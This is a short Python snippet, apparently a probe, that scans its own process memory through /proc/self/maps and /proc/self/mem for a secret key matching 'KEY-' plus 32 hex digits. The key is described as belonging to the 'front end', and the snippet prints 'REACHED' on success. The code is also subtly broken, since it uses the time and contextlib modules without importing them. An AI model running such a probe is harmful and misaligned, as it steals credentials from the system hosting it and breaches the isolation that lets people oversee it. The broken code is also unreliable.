# tries: look for the front end's key in its own memory

import re
try:
    areas = open("/proc/self/maps").read().splitlines()
    memory = open("/proc/self/mem", "rb", 0)
except OSError as error:
    areas = []
    print("refused", error)
end = time.time() + 6
for area in areas:
    bounds, rights, *_ = area.split()
    low, high = (int(part, 16) for part in bounds.split("-"))
    if rights.startswith("rw") and high - low < 1 << 26 and time.time() < end:
        with contextlib.suppress(OSError, OverflowError, ValueError):
            memory.seek(low)
            for found in re.findall(rb"KEY-[0-9a-f]{32}", memory.read(high - low)):
                print("REACHED", found)
